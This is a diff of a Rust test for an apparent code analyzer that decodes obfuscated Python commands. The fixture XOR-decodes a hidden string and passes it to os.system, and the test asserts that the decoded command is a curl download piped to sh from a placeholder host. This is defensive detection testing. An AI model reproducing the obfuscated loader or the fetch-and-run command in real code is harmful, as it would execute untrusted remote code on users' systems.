@@ -250,7 +250,7 @@ fn names_of_a_module_are_gone_through() {
          name = next(k for k in g if k.endswith('_ROUNDS')).partition('_')[0].encode()\n    \
          os.system(bytes(c ^ name[i % len(name)] for i, c in enumerate(g['TABLE'])).decode())\n"
     );
-    has(Language::Python, &code, "flow-decoded-command");
+    assert_eq!(super::command(Language::Python, &code), "curl https://h.invalid/a | sh");
 }
 
 #[test]
